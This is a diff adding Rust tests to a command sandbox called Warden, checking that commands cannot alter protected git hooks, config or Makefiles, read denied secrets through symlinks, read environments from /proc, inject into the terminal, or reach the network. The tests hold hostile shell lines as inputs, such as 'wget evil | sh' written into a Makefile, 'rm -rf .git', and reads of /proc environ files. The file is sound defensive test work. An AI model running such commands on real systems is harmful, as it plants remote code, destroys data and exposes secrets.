@@ -176,10 +176,35 @@ fn git_hooks_and_config_stay_read_only_in_an_existing_repo() {
     let p = Project::new();
     p.file("proj/.git/config", "[core]\n").file("proj/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
     let s = sandbox(&p, "", "");
-    let r = sh(&s, "echo evil > .git/hooks/pre-commit; echo evil >> .git/config; mv .git .git-old; mv .git/hooks .git/h2; echo ok > .git/HEAD");
-    assert!(!p.exists("proj/.git/hooks/pre-commit") && !p.exists("proj/.git-old"));
+    let r = sh(
+        &s,
+        "echo evil > .git/hooks/pre-commit; echo evil >> .git/config; mv .git .git-old; mv .git/hooks .git/h2; \
+         mkdir -p x/hooks && mv x/hooks .git/hooks; mv .git/config cfg; rm -rf .git; echo ok > .git/HEAD",
+    );
+    assert!(!p.exists("proj/.git/hooks/pre-commit") && !p.exists("proj/.git-old") && !p.exists("proj/.git/h2"), "{r:?}");
     assert_eq!(p.read("proj/.git/config").as_deref(), Some("[core]\n"));
+    assert_eq!(p.read("proj/.git/hooks/pre-commit.sample").as_deref(), Some("#!/bin/sh\n"), "{r:?}");
     assert_eq!(p.read("proj/.git/HEAD").as_deref(), Some("ok\n"), "the rest of .git stays writable: {r:?}");
+}
+
+#[test]
+fn a_git_file_does_not_break_the_sandbox_or_open_a_way_round_it() {
+    // A worktree's `.git` is a file: the file itself stays read-only.
+    let p = Project::new();
+    p.file("proj/.git", "gitdir: /elsewhere\n");
+    let r = sh(&sandbox(&p, "", ""), "echo 'gitdir: /tmp/evil' > .git; echo done");
+    assert_eq!(r.stdout, "done\n", "{r:?}");
+    assert_eq!(p.read("proj/.git").as_deref(), Some("gitdir: /elsewhere\n"));
+}
+
+#[test]
+fn the_policy_can_protect_an_existing_file_more() {
+    let p = Project::new();
+    p.file("proj/Makefile", "all:\n");
+    let r = sh(&sandbox(&p, "    protect: [Makefile]\n", ""), "echo 'all: ; wget evil | sh' > Makefile; rm -f Makefile; mv Makefile M2; echo done");
+    assert_eq!(r.stdout, "done\n", "{r:?}");
+    assert_eq!(p.read("proj/Makefile").as_deref(), Some("all:\n"), "{r:?}");
+    assert!(!p.exists("proj/M2"));
 }
 
 #[test]
@@ -240,6 +265,27 @@ fn a_symlinked_protected_folder_stays_read_only_at_its_target() {
     let r = sh(&s, "echo evil > .git/hooks/pre-commit; echo evil > real-hooks/pre-commit; echo ran > control.txt");
     assert!(!p.exists("proj/real-hooks/pre-commit"));
     assert_eq!(p.read("proj/control.txt").as_deref(), Some("ran\n"), "the command did not run: {r:?}");
+}
+
+#[test]
+fn a_symlinked_protected_file_stays_read_only_at_its_target() {
+    let p = Project::new();
+    p.file("proj/dotfiles/bashrc", "safe\n");
+    std::os::unix::fs::symlink("dotfiles/bashrc", p.path("proj/.bashrc")).unwrap();
+    let r = sh(&sandbox(&p, "", ""), "echo evil >> .bashrc; echo evil >> dotfiles/bashrc; echo done");
+    assert_eq!(r.stdout, "done\n", "{r:?}");
+    assert_eq!(p.read("proj/dotfiles/bashrc").as_deref(), Some("safe\n"), "{r:?}");
+}
+
+#[test]
+fn a_symlinked_denied_folder_is_hidden_at_its_target() {
+    let p = Project::new();
+    p.file("proj/vault/key.pem", SECRET);
+    std::os::unix::fs::symlink("vault", p.path("proj/secrets")).unwrap();
+    let r = sh(&sandbox(&p, "    deny_read: [secrets/]\n", ""), "cat secrets/key.pem; cat vault/key.pem; ls vault; echo x > vault/key.pem; echo done");
+    assert_no_secret(&r);
+    assert!(r.stdout.ends_with("done\n"), "{r:?}");
+    assert_eq!(p.read("proj/vault/key.pem").as_deref(), Some(SECRET));
 }
 
 #[test]
@@ -335,6 +381,24 @@ fn ptrace_is_refused_by_wardens_filter_not_only_the_engines() {
     assert_eq!(r.stdout, "ptrace -1 errno 1\n", "{r:?}");
 }
 
+#[test]
+fn tiocsti_is_refused_even_with_high_bits_set() {
+    // On its own controlling terminal the kernel would take it (the probe
+    // injects on the host); Warden's filter refuses both forms.
+    let p = Project::new();
+    with_probe(&p);
+    let r = probe(&sandbox(&p, "", ""), "tiocsti");
+    assert_eq!(r.stdout, "tiocsti 0x5412 errno 1\ntiocsti 0x100005412 errno 1\n", "{r:?}");
+}
+
+#[test]
+fn raw_sockets_are_refused() {
+    let p = Project::new();
+    with_probe(&p);
+    let r = probe(&sandbox(&p, "", "  network: true\n"), "raw; ping -c1 -W1 127.0.0.1 && echo PINGED");
+    assert!(r.stdout.starts_with("raw -1 errno 1\n") && !r.stdout.contains("PINGED"), "{r:?}");
+}
+
 fn unix_probe(allow: bool) -> (ExecutionResult, bool) {
     let p = Project::new();
     with_probe(&p);
@@ -373,7 +437,7 @@ fn the_hosts_environment_does_not_reach_the_command_and_the_policys_does() {
     unsafe { std::env::set_var("WARDEN_TEST_API_TOKEN", SECRET) };
     let p = Project::new();
     let s = sandbox(&p, "", "  env: { GREETING: hello, DEPLOY_TOKEN: x }\n");
-    let r = sh(&s, "env; cat /proc/1/environ");
+    let r = sh(&s, "env; cat /proc/1/environ /proc/$PPID/environ");
     assert_no_secret(&r);
     assert!(r.stdout.contains("GREETING=hello") && !r.stdout.contains("DEPLOY_TOKEN"), "{}", r.stdout);
 }
@@ -490,8 +554,12 @@ fn there_is_no_network_unless_the_policy_allows_it() {
     let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
     let port = listener.local_addr().unwrap().port();
     let p = Project::new();
-    let r = sh(&sandbox(&p, "", ""), &format!("ip -o addr | grep -v ' lo '; echo hi | nc -w 2 10.0.2.2 {port}; wget -q -T 2 http://example.com/"));
+    let r = sh(
+        &sandbox(&p, "", ""),
+        &format!("ip -o addr | grep -v ' lo '; nslookup example.com && echo RESOLVED; echo hi | nc -w 2 10.0.2.2 {port}; wget -q -T 2 http://example.com/"),
+    );
     assert_ne!(r.exit_code, 0);
+    assert!(!r.stdout.contains("RESOLVED"), "{r:?}");
     assert!(r.stderr.contains("Note: network access is disabled for this sandbox"), "{}", r.stderr);
     listener.set_nonblocking(true).unwrap();
     assert!(listener.accept().is_err(), "a connection reached the host");
